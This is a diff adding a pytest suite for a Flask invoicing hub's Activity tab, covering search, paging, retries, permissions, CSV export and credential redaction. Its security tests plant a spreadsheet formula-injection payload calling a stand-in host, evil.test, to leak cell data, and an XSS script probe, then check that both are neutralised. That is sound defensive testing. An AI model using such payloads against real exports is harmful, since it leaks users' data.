@@ -1,0 +1,231 @@
+"""The Activity tab: what was sent is found again, by whom it may be seen, and without anything that must not be."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from flask import Flask
+from sqlalchemy import select
+
+from hub.database import session
+from hub.host import Organization, Permission
+from hub.models import ConversationRow, Delivery, Envelope, Exchange, Installation, Purpose
+from hub.plugin import Record, RecordKind
+from hub.services import activity, carrying, fetching
+from hub.services.activity import Wanted
+from hub.states import DeliveryState
+from tests.hub.conftest import Desk
+from tests.hub.ledger import Ledger
+from tests.hub.test_web import FORM, Browser, count_queries
+
+
+@pytest.fixture
+def browser(app: Flask) -> Iterator[Browser]:
+    yield Browser(app)
+    session().expire_all()
+
+
+@pytest.fixture
+def path(installation: Installation) -> str:
+    return f"/hub/installations/{installation.id}/activity"
+
+
+def deliver(installation: Installation, number: int, state: DeliveryState = DeliveryState.POSTED, **more: Any) -> None:
+    """A delivery as if it had been sent."""
+    session().add(Delivery(**({
+        "installation_id": installation.id, "organization_id": installation.organization_id, "kind": "invoice",
+        "source": f"order/{number}", "order_id": str(number), "title": f"Invoice {number}", "state": state,
+        "subject": {"customer": {"id": "1", "name": f"Customer {number}"}}, "sent_by": "Ada Admin",
+    } | more)))  # fmt: skip
+
+
+def linking_all(installation: Installation) -> None:
+    """The customer and the item of every order are in the books."""
+    for kind, name in ((RecordKind.CUSTOMER, "ABC Company"), (RecordKind.ITEM, "A7102")):
+        fetching.store(installation.id, kind, [Record(kind=kind, id=f"{kind}-1", name=name)])
+    session().commit()
+
+
+def many(installation: Installation, count: int) -> None:
+    for number in range(count):
+        if number % 10:
+            deliver(installation, 2000 + number)
+        else:
+            closed = {"what": "The period is closed.", "cure": "Open it."}
+            deliver(installation, 2000 + number, DeliveryState.STOPPED, problems=[closed])
+    session().commit()
+
+
+def test_a_delivery_shows_what_it_is_where_it_stands_and_what_was_said(
+    browser: Browser, installation: Installation, path: str
+) -> None:
+    browser.post("/hub/orders/1042/send", FORM)
+    carrying.carry(installation.id)
+    page = browser.get(path).text
+    for text in ("Invoice 1042", "In Pretend as 1042", "Ada Admin", "ABC Company", 'href="/orders/1042"', "Payment"):
+        assert text in page
+    invoice = session().scalars(select(Delivery).where(Delivery.kind == "invoice")).one()
+    asked = select(Envelope.key).join(Exchange).join(ConversationRow)
+    key = session().scalars(asked.where(ConversationRow.delivery_id == invoice.id)).one()
+    for htmx in (False, True):
+        said = browser.get(f"{path}/{invoice.id}", htmx=htmx).text
+        assert said.lstrip().startswith("<section" if htmx else "<!doctype html>")
+        assert "create invoice" in said
+        assert "&#34;number&#34;: &#34;1042&#34;" in said
+        assert key in said
+        assert "canary" not in said
+
+
+def test_pages_follow_each_other_without_gap_or_repetition(app: Flask, installation: Installation) -> None:
+    many(installation, 120)
+    seen: list[int] = []
+    before: int | None = None
+    while True:
+        rows, before = activity.page(installation.id, Wanted(before=before))
+        seen += [row.id for row in rows]
+        if before is None:
+            break
+    assert seen == list(session().scalars(select(Delivery.id).order_by(Delivery.id.desc())))
+
+
+@pytest.mark.parametrize(
+    ("query", "titles"),
+    [
+        ("state=attention", ["Invoice 2010", "Invoice 2000"]),
+        ("q=invoice+2007", ["Invoice 2007"]),
+        ("q=CUSTOMER%20%202012", ["Invoice 2012"]),
+        ("q=period+closed", ["Invoice 2010", "Invoice 2000"]),
+        ("q=period&state=posted", []),
+        ("q=100%25", []),
+        ("q=_", []),
+    ],
+)
+def test_what_is_looked_for_is_found(
+    browser: Browser, installation: Installation, path: str, query: str, titles: list[str]
+) -> None:
+    many(installation, 20)
+    page = browser.get(f"{path}?{query}", htmx=True).text
+    assert [title for title in (f"Invoice {number}" for number in range(2019, 1999, -1)) if title in page] == titles
+    assert ("Nothing matches" in page) is (titles == [])
+
+
+def test_the_tab_takes_as_many_queries_for_many_as_for_few(
+    app: Flask, browser: Browser, installation: Installation, path: str
+) -> None:
+    many(installation, 3)
+    seen = count_queries(app)
+    counts = []
+    for more in (0, 300):
+        for number in range(more):
+            deliver(installation, 5000 + number, DeliveryState.STOPPED)
+        session().commit()
+        seen.clear()
+        assert browser.get(path).status_code == 200
+        counts.append(len(seen))
+    assert counts[0] == counts[1]
+
+
+def test_a_stopped_delivery_is_tried_again_or_given_up_in_its_row(
+    browser: Browser, installation: Installation, ledger: Ledger, path: str
+) -> None:
+    ledger.refuses = lambda payload: "That number is taken." if "invoices" in payload else ""
+    browser.post("/hub/orders/1042/send", FORM)
+    carrying.carry(installation.id)
+    invoice = session().scalars(select(Delivery).where(Delivery.kind == "invoice")).one()
+    assert "That number is taken." in browser.get(path).text
+    row = browser.post(f"{path}/{invoice.id}/retry", htmx=True).text
+    assert f'id="hub-delivery-{invoice.id}"' in row
+    assert "Queued" in row
+    assert browser.post(f"{path}/{invoice.id}/cancel").status_code == 303
+    assert "Cancelled" in browser.get(f"{path}/moved?id={invoice.id}", htmx=True).text
+    carrying.carry(installation.id)
+    assert ledger.invoices == []
+
+
+def test_retry_all_goes_on_until_every_one_was_tried(
+    browser: Browser, installation: Installation, desk: Desk, path: str
+) -> None:
+    linking_all(installation)
+    for number in range(3000, 3030):
+        desk.copy_order(str(number))
+        deliver(installation, number, DeliveryState.STOPPED, problems=[{"what": "Closed."}])
+    deliver(installation, 3999, DeliveryState.STOPPED)  # Its order is not there any more.
+    session().commit()
+    first = browser.post(f"{path}/retry", htmx=True).text
+    assert "24 are on their way again, 1 still needs attention." in first
+    before = int(first.partition('name="before" value="')[2].partition('"')[0])
+    last = browser.post(f"{path}/retry", {"before": before, "again": 24, "still": 1, "total": 31}, htmx=True).text
+    assert "30 are on their way again, 1 still needs attention." in last
+    assert 'name="before"' not in last
+    states = session().execute(select(Delivery.order_id, Delivery.state)).all()
+    assert {number for number, state in states if state is DeliveryState.STOPPED} == {"3999"}
+
+
+def test_what_a_document_needs_and_is_gone_from_the_books_is_said_when_it_is_tried_again(
+    browser: Browser, installation: Installation, desk: Desk, path: str
+) -> None:
+    desk.copy_order("3000")
+    deliver(installation, 3000, DeliveryState.STOPPED)
+    session().commit()
+    row = browser.post(f"{path}/1/retry", htmx=True).text
+    assert "“ABC Company” is not in the books any more." in row
+    assert "“A7102” is not in the books any more." in row
+
+
+def test_the_file_holds_everything_and_no_formula(browser: Browser, installation: Installation, path: str) -> None:
+    many(installation, 600)
+    evil = '=HYPERLINK("http://evil.test/?"&A1)'
+    deliver(installation, 9000, sent_by=evil, title="+1", posting_number="@x", order_id="-2")
+    session().commit()
+    answer = browser.get(f"{path}.csv")
+    assert answer.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
+    assert len(rows) == 602
+    assert [*rows[1][1:4], rows[1][6]] == [f"'{evil}", "'-2", "'+1", "'@x"]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
+    filtered = browser.get(f"{path}.csv?state=attention&q=invoice+2010").text
+    assert len(filtered.strip().splitlines()) == 2
+
+
+def test_nothing_that_looks_like_a_credential_is_shown(
+    browser: Browser, installation: Installation, path: str
+) -> None:
+    deliver(installation, 1042)
+    session().flush()
+    delivery = session().scalars(select(Delivery)).one()
+    row = ConversationRow(installation_id=installation.id, purpose=Purpose.POST, delivery_id=delivery.id, argument={})
+    envelope = Envelope(installation_id=installation.id, key="f" * 24)
+    said = {
+        "access_token": "canary-1", "a": [{"Password": "canary-2", "text": "Authorization: Bearer canary-3canary"}],
+        "xml": "<strPassword>canary-4</strPassword><Name>ABC</Name>", "CreditCardNumber": "canary-5",
+        "SSN": "canary-6", "AcctNum": "4000", "name": "<script>alert(1)</script>",
+    }  # fmt: skip
+    session().add_all([row, envelope])
+    session().flush()
+    session().add(Exchange(conversation_id=row.id, position=0, envelope_id=envelope.id, slot=0, name="ask",
+                           payload=said, writes=True, response=said))  # fmt: skip
+    session().commit()
+    page = browser.get(f"{path}/{delivery.id}").text
+    assert "canary" not in page
+    assert "4000" in page
+    assert "&lt;script&gt;alert(1)" in page
+
+
+def test_other_organizations_and_people_without_the_right_see_none_of_it(
+    browser: Browser, installation: Installation, desk: Desk, path: str
+) -> None:
+    deliver(installation, 1042, DeliveryState.STOPPED)
+    session().commit()
+    pages = ("", ".csv", "/moved?id=1", "/1")
+    desk.permissions = {Permission.SEND, Permission.VIEW}
+    assert [browser.get(path + page).status_code for page in pages] == [403] * 4
+    assert [browser.post(path + page).status_code for page in ("/retry", "/1/retry", "/1/cancel")] == [403] * 3
+    desk.permissions = set(Permission)
+    desk.working_for = Organization(id="other", name="Other")
+    assert [browser.get(path + page).status_code for page in pages] == [404] * 4
+    assert [browser.post(path + page).status_code for page in ("/retry", "/1/retry", "/1/cancel")] == [404] * 3
+    assert session().scalars(select(Delivery.state)).all() == [DeliveryState.STOPPED]
